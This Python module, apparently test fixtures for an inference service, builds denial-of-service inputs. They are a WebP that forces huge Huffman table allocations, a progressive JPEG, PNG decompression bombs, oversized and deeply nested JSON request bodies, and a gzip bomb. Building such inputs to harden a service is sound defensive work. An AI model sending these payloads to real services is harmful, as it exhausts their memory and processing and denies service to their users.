"""Requests that cost a service much more than they cost whoever sends them; each is a legal file or a legal request."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Sequence
from functools import cache

import numpy as np
from PIL import Image


class _Bits:
    """A stream of bits, the lowest of each byte first, as VP8L has it."""

    def __init__(self) -> None:
        self._parts: list[np.ndarray] = []

    def put(self, value: int, count: int) -> None:
        self._parts.append((value >> np.arange(count) & 1).astype(np.uint8))

    def put_all(self, bits: np.ndarray) -> None:
        self._parts.append(bits.astype(np.uint8).ravel())

    def bytes(self) -> bytes:
        return np.packbits(np.concatenate(self._parts), bitorder="little").tobytes()


@cache
def webp_of_tables(side: int = 1024) -> bytes:
    """A lossless WebP file with a group of Huffman tables of its own for every 4 x 4 pixels, all of them black.

    The decoder makes all tables before the first pixel: 65,536 groups of 288 KB take some hundred megabytes. Source:
    RFC 9649, section 3 (WebP Lossless Bitstream Format).

    Args:
        side: width and height in pixels, at most 1024.
    """
    blocks = side // 4
    bits = _Bits()
    bits.put(0x2F, 8)
    bits.put(side - 1, 14)
    bits.put(side - 1, 14)
    bits.put(0, 1 + 3)  # no alpha, version
    bits.put(0, 1)  # no transform
    bits.put(0, 1)  # no colour cache
    bits.put(1, 1)  # an image of which group is whose
    bits.put(0, 3)  # for 4 x 4 pixels each
    bits.put(0, 1)  # no colour cache in it
    for _ in ("green", "red"):  # 256 symbols of 8 bits each
        bits.put(0, 1)
        bits.put(8, 4)  # 12 lengths of the code of lengths, the last that of length 8
        for index in range(12):
            bits.put(1 if index == 11 else 0, 3)
        bits.put(1, 1)  # fewer symbols than there could be:
        bits.put(3, 3)
        bits.put(254, 8)  # 256
    one_symbol = 0b0001  # a simple code, of one symbol of one bit, 0
    for _ in ("blue", "alpha", "distance"):
        bits.put(one_symbol, 4)
    group = np.arange(blocks * blocks)
    codes = np.stack([group & 255, group >> 8], 1)  # green, red; the first bit of a code is its highest
    bits.put_all(codes[..., None] >> np.arange(7, -1, -1) & 1)
    bits.put_all(np.tile([1, 0, 0, 0], 5 * blocks * blocks))
    payload = bits.bytes()
    payload += bytes(len(payload) % 2)
    chunk = b"VP8L" + struct.pack("<I", len(payload)) + payload
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


@cache
def progressive_jpeg(side: int = 3600) -> bytes:
    """A progressive JPEG file of one colour: the decoder holds the coefficients of all blocks, 6 bytes a pixel."""
    file = io.BytesIO()
    Image.new("RGB", (side, side), (90, 120, 30)).save(file, "JPEG", progressive=True, quality=30)
    return file.getvalue()


def png(size: tuple[int, int], bits: int, colour: int, rows: bytes, more: Sequence[tuple[bytes, bytes]] = ()) -> bytes:
    """A PNG file that claims a size (width, height), and holds these rows, behind ``more`` chunks."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", *size, bits, colour, 0, 0, 0)
    chunks = [(b"IHDR", header), *more, (b"IDAT", zlib.compress(rows)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(*one) for one in chunks)


@cache
def png_of_texts(count: int = 400, megabytes: int = 7) -> bytes:
    """A PNG file of one pixel with compressed texts, each of so many megabytes of one letter."""
    text = b"Comment\0\0" + zlib.compress(b"x" * (megabytes << 20), 9)
    return png((1, 1), 8, 2, bytes(4), [(b"zTXt", text)] * count)


@cache
def png_of_rows(width: int = 6400, height: int = 6400) -> bytes:
    """A PNG file of one colour: 123 MB of pixels in 120 KB."""
    return png((width, height), 8, 2, bytes((3 * width + 1) * height))


def numbers(megabytes: int) -> bytes:
    """The body of an inference with numbers of one digit; the input has another size, which shows at the end alone."""
    start = b'{"inputs":[{"name":"images","shape":[1,3,8,8],"datatype":"FP32","data":['
    return start + b"0," * (megabytes << 19) + b"0]}]}"


def brackets(megabytes: int) -> bytes:
    """The body of an inference that is lists in lists."""
    return b'{"inputs":' + b"[" * (megabytes << 20)


def gzip_of_zeros(megabytes: int) -> bytes:
    """A file of gzip, a thousandth as large as what it becomes."""
    packer = zlib.compressobj(9, wbits=31)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(megabytes)) + packer.flush()
